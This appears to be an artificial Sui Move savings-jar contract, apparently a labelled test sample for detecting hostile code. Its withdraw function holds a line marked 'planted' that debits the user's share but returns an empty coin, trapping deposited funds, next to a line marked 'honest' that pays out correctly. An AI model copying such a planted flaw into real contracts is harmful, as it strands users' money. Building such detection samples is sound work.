module hostile::savings_without_way_back;

use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;
use sui::table::{Self, Table};

public struct Jar has key { id: UID, money: Balance<SUI>, shares: Table<address, u64> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero(), shares: table::new(ctx) })
}

public fun save(jar: &mut Jar, payment: Coin<SUI>, ctx: &TxContext) {
    let owner = ctx.sender();
    if (!jar.shares.contains(owner)) jar.shares.add(owner, 0);
    let share = &mut jar.shares[owner];
    *share = *share + payment.value();
    jar.money.join(payment.into_balance());
}

public fun withdraw(jar: &mut Jar, amount: u64, ctx: &mut TxContext): Coin<SUI> {
    let share = &mut jar.shares[ctx.sender()];
    *share = *share - amount;
    balance::zero().into_coin(ctx) //! planted
    jar.money.split(amount).into_coin(ctx) //! honest
}
